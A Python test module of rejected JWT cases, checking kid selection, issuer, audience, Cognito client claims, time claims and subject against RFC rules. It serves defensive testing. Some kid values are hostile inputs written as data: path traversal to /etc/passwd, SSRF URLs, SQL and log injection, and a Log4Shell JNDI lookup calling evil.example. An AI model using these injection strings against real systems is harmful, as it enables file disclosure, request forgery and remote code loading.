"""Attacks on the choice of key and by claims (RFC 8725, 3.8 to 3.10; RFC 7519, 4.1; RFC 9068)."""

from collections.abc import Callable
from typing import Any

from tests.auth.row import Attack
from tests.support.key_pairs import Signer, ec_key, ecdsa, pkcs1, rsa_key
from tests.support.tokens import CLIENT_ID, GONE, Forge

ONE_KEY = "RFC 7515, 4.1.4 and RFC 7517, 4.5: kid names the key, and just one"
MEANT = "RFC 7517, 4.2 and 4.3: a key is for what its use and key_ops say"
STRONG = "RFC 7518, 3.3: at least 2,048 bits"
ISSUER = "RFC 8725, 3.8: whose token, and that issuer's keys alone"
AUDIENCE = "RFC 8725, 3.9: a token for somebody else"
COGNITO = "Cognito: an access token names its client by client_id, an ID token by aud"
EXPIRY = "RFC 7519, 4.1.4: how long"
EARLY = "RFC 7519, 4.1.5: not yet"
ISSUED = "RFC 7519, 4.1.6: issued in the future"
SUBJECT = "OpenID Connect Core, 2: at most 255 ASCII characters"

Make = Callable[[Forge], str]


def with_claims(**claims: Any) -> Make:
    """A good token but for these claims."""
    return lambda forge: forge.token(claims)


def under_kid(kid: Any, by: Signer | None = None, **header: Any) -> Make:
    """A good token but for its kid."""
    return lambda forge: forge.token(header={"kid": kid, **header}, by=by)


def of_other_under_kid(kid: Any) -> Make:
    """The other issuer has one RSA key, which a token without a kid would mean."""
    return lambda forge: forge.token(
        {"iss": forge.other}, {"kid": kid}, pkcs1(rsa_key("other rsa"))
    )


def from_now(claim: str, seconds: float) -> Make:
    """A good token but for one time."""
    return lambda forge: forge.token({claim: forge.now + seconds})


def issued_by(write: Callable[[Forge], Any]) -> Make:
    """A good token but for its issuer."""
    return lambda forge: forge.token({"iss": write(forge)})


KEY = [
    Attack("a kid that nobody knows", under_kid("unknown"), ONE_KEY),
    Attack("kid of a stranger's key", under_kid("evil", pkcs1(rsa_key("evil"))), ONE_KEY),
    Attack("kid of another key", under_kid("rs256"), ONE_KEY),
    Attack("kid in another case", under_kid("RSA"), ONE_KEY),
    Attack("kid with a space", under_kid("rsa "), ONE_KEY),
    Attack("no kid where several keys fit", under_kid(GONE), ONE_KEY),
    Attack("kid empty", under_kid(""), ONE_KEY),
    Attack("kid null", under_kid(None), ONE_KEY),
    Attack("kid a number", under_kid(0), ONE_KEY),
    Attack("kid a list", under_kid(["rsa"]), ONE_KEY),
    Attack("kid an object", under_kid({"rsa": "rsa"}), ONE_KEY),
    Attack("kid true", under_kid(True), ONE_KEY),
    *(
        Attack(f"kid {kid!r} where one key would fit", of_other_under_kid(kid), ONE_KEY)
        for kid in (None, "", 0, ["rsa"], False)
    ),
    Attack(
        "kid twice in the set, the first signs",
        under_kid("twice", pkcs1(rsa_key("twice one"))),
        ONE_KEY,
    ),
    Attack(
        "kid twice in the set, the second signs",
        under_kid("twice", pkcs1(rsa_key("twice two"))),
        ONE_KEY,
    ),
    *(
        Attack(f"kid {kid[:24]!r}", under_kid(kid), "RFC 8725, 3.10: kid is input")
        for kid in (
            "../../../../dev/null",
            "/proc/self/environ",
            "file:///etc/passwd",
            "http://127.0.0.1:1/keys",
            "https://evil.example/keys",
            "rsa' OR '1'='1",
            "rsa\0",
            "rsa\nINFO admitted",
            "${jndi:ldap://evil.example/a}",
            "__proto__",
            "0",
            "k" * 1500,
        )
    ),
    Attack("a key for encryption", under_kid("enc", pkcs1(rsa_key("enc"))), MEANT),
    Attack(
        "a key for encryption on a curve",
        lambda forge: forge.es256(by=ecdsa(ec_key("ec-enc")), kid="ec-enc"),
        MEANT,
    ),
    Attack("key_ops without verify", under_kid("ops", pkcs1(rsa_key("ops"))), MEANT),
    Attack("a key of another algorithm", under_kid("oaep", pkcs1(rsa_key("oaep"))), MEANT),
    Attack("RSA of 1,024 bits", under_kid("weak", pkcs1(rsa_key("weak", 1024))), STRONG),
]

WHOSE = [
    Attack("no issuer", with_claims(iss=GONE), ISSUER),
    Attack("issuer null", with_claims(iss=None), ISSUER),
    Attack("issuer empty", with_claims(iss=""), ISSUER),
    Attack("another issuer", with_claims(iss="https://evil.example"), ISSUER),
    Attack("issuer with a slash", issued_by(lambda forge: forge.issuer + "/"), ISSUER),
    Attack("issuer with a query", issued_by(lambda forge: forge.issuer + "?"), ISSUER),
    Attack("issuer and more", issued_by(lambda forge: forge.issuer + ".evil.example"), ISSUER),
    Attack("part of the issuer", issued_by(lambda forge: forge.issuer[:-1]), ISSUER),
    Attack("issuer in upper case", issued_by(lambda forge: forge.issuer.upper()), ISSUER),
    Attack("issuer with a space", issued_by(lambda forge: " " + forge.issuer), ISSUER),
    Attack("issuer in a list", issued_by(lambda forge: [forge.issuer]), ISSUER),
    Attack("issuer in an object", issued_by(lambda forge: {forge.issuer: 1}), ISSUER),
    Attack("both issuers", issued_by(lambda forge: f"{forge.issuer},{forge.other}"), ISSUER),
    Attack("issuer a number", with_claims(iss=1), ISSUER),
    Attack(
        "issuer without its scheme",
        issued_by(lambda forge: forge.issuer.partition("//")[2]),
        ISSUER,
    ),
    Attack("the other issuer's name, this one's key", issued_by(lambda forge: forge.other), ISSUER),
    Attack(
        "this issuer's name, the other one's key",
        lambda forge: forge.token(by=pkcs1(rsa_key("other rsa"))),
        ISSUER,
    ),
    Attack(
        "this issuer's name, a kid of the other one",
        lambda forge: forge.es256(by=ecdsa(ec_key("other ec")), kid="other-ec"),
        ISSUER,
    ),
    Attack("no audience", with_claims(aud=GONE), AUDIENCE),
    *(
        Attack(f"audience {aud!r}", with_claims(aud=aud), AUDIENCE)
        for aud in (
            None,
            "",
            "another-app",
            "Parley",
            "parley ",
            "parle",
            "parley.evil",
            "parley,other",
            "parley other",
            [],
            [""],
            ["another-app"],
            [None],
            ["parley", 1],
            ["parley", None],
            [["parley"]],
            [{"parley": 1}],
            {"parley": True},
            True,
            0,
        )
    ),
    Attack("client_id alone", with_claims(aud=GONE, client_id=CLIENT_ID), COGNITO),
    Attack(
        "an ID token without an audience",
        with_claims(aud=GONE, client_id=CLIENT_ID, token_use="id"),
        COGNITO,
    ),
    Attack(
        "an access token of another client",
        with_claims(aud=GONE, client_id="another-app", token_use="access"),
        COGNITO,
    ),
    Attack("an access token of no client", with_claims(aud=GONE, token_use="access"), COGNITO),
    Attack(
        "an access token of a list of clients",
        with_claims(aud=GONE, client_id=[CLIENT_ID], token_use="access"),
        COGNITO,
    ),
    Attack(
        "an access token with an audience that is none",
        with_claims(aud=[], client_id=CLIENT_ID, token_use="access"),
        COGNITO,
    ),
    Attack(
        "an access token with another audience",
        with_claims(aud="another-app", client_id=CLIENT_ID, token_use="access"),
        COGNITO,
    ),
    *(
        Attack(f"token_use {use!r}", with_claims(token_use=use), COGNITO)
        for use in ("refresh", "", "ACCESS", None, 1, ["access"])
    ),
]

NO_TIME: tuple[Any, ...] = ("", "0", "now", None, True, [0], {})

TIMES = [
    Attack("no expiry", with_claims(exp=GONE), EXPIRY),
    *(
        Attack(f"expiry {exp!r}", with_claims(exp=exp), EXPIRY)
        for exp in (*NO_TIME, "1900000000", False, 0, -1, [1_900_000_000], 10**20)
    ),
    Attack("expiry of 400 digits", with_claims(exp=10**400), EXPIRY),
    Attack("expiry of 1e300", with_claims(exp=1e300), EXPIRY),
    Attack("expiry of 1e999", lambda forge: _expiring(forge, "1e999"), EXPIRY),
    Attack("expiry Infinity", lambda forge: _expiring(forge, "Infinity"), EXPIRY),
    Attack("expiry NaN", lambda forge: _expiring(forge, "NaN"), EXPIRY),
    Attack("expired yesterday", from_now("exp", -86400), EXPIRY),
    Attack("expired ten seconds ago", from_now("exp", -10), EXPIRY),
    Attack("expired a quarter of a second ago", from_now("exp", 0), EXPIRY),
    Attack("expiring this very moment", lambda forge: forge.token({"exp": forge.clock()}), EXPIRY),
    Attack("not before the next minute", from_now("nbf", 90), EARLY),
    Attack("not before a year from now", from_now("nbf", 31_536_000), EARLY),
    *(Attack(f"not before {nbf!r}", with_claims(nbf=nbf), EARLY) for nbf in NO_TIME),
    Attack("issued in the next minute", from_now("iat", 90), ISSUED),
    Attack("issued tomorrow", from_now("iat", 86400), ISSUED),
    *(Attack(f"issued at {iat!r}", with_claims(iat=iat), ISSUED) for iat in NO_TIME),
]


def _expiring(forge: Forge, text: str) -> str:
    claims = f'{{"iss":"{forge.issuer}","aud":"parley","sub":"ana","exp":{text}}}'
    return forge.raw('{"alg":"RS256","typ":"JWT","kid":"rsa"}', claims)


WHO = [
    Attack("no subject", with_claims(sub=GONE), SUBJECT),
    *(
        Attack(f"subject {sub!r:.30}", with_claims(sub=sub), SUBJECT)
        for sub in (
            None,
            "",
            1,
            0,
            True,
            ["ana"],
            {"ana": 1},
            "a" * 256,
            "ana\n",
            "ana\0",
            "ana\x7f",
            "ana\x1b[2J",
            "\tana",
            "anä",
            "аna",
            "ana\u202e",
            "\ud800",
        )
    ),
    Attack("a guest's id", lambda forge: "7f1c0d52-8a3e-4b6f-9c1d-0123456789ab", "no token"),
    Attack(
        "a guest's id thrice", lambda forge: "7f1c0d52-8a3e-4b6f-9c1d.0123456789ab.x", "no token"
    ),
    Attack("nothing", lambda forge: "", "no token", frozenset()),
    Attack("a word", lambda forge: "ana", "no token"),
    Attack("null", lambda forge: "null", "no token"),
    Attack("undefined", lambda forge: "undefined", "no token"),
    Attack("[object Object]", lambda forge: "[object Object]", "no token"),
]

CLAIMS = [*KEY, *WHOSE, *TIMES, *WHO]
